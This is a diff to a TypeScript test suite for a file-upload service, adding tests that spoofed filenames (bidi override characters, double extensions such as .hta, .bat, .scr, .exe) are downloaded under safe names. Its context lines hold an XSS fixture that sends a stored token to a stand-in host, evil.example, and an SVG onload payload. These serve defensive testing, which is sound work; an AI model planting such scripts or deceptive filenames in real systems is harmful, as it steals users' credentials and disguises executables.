@@ -9,6 +9,7 @@ import { pdf } from "../support/factories/pdf";
 const script = "<script>fetch('https://evil.example/'+localStorage.token)</script>";
 const page = `<!doctype html><html><body>${script}</body></html>`;
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
+const letter = pdf(["Dear Jens"]);
 const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
 
 /** A PNG that is small on the wire and claims to be `side` by `side`. */
@@ -94,4 +95,32 @@ test("everything else is refused, under any name and any claimed type", async ()
     }
   }
   expect(await db().file.count()).toBe(0);
+});
+
+test.each([
+  ["x.hta", "x.hta.txt"],
+  ["setup.bat", "setup.bat.txt"],
+  ["invoice.html", "invoice.html.txt"],
+  ["notes.txt\u202e", "notes.txt"],
+  ["\u202etxt.exe", "txt.exe.txt"],
+  ["a\u2066b\u200f\t.scr", "ab.scr.txt"],
+  ["txt", "txt.txt"],
+  ["\u200e", "file.txt"],
+  ["Diary.TXT", "Diary.TXT"],
+])("a text named %j is downloaded as %s, and keeps its name on the page", async (name, saved) => {
+  const { file } = await upload(await signUp(), "echo hello", name);
+  const { headers } = await fetchFile(file.fileUrl);
+  expect(headers.get("content-disposition")).toMatch(new RegExp(`UTF-8''${saved}$`));
+  expect(file.fileName).toBe(name);
+});
+
+test.each<[string, Buffer, string]>([
+  ["photo.png.js", drawing, "photo.png.js.png"],
+  ["door.JPEG", photo, "door.JPEG"],
+  ["door.png", photo, "door.png.jpg"],
+  ["letter.pdf.exe", letter, "letter.pdf.exe.pdf"],
+  ["Ångström.pdf", letter, "%C3%85ngstr%C3%B6m.pdf"],
+])("%s is downloaded with the ending of what it is: %#", async (name, content, saved) => {
+  const { headers } = await answered(await signUp(), content, name);
+  expect(headers.get("content-disposition")).toMatch(new RegExp(`UTF-8''${saved}$`));
 });
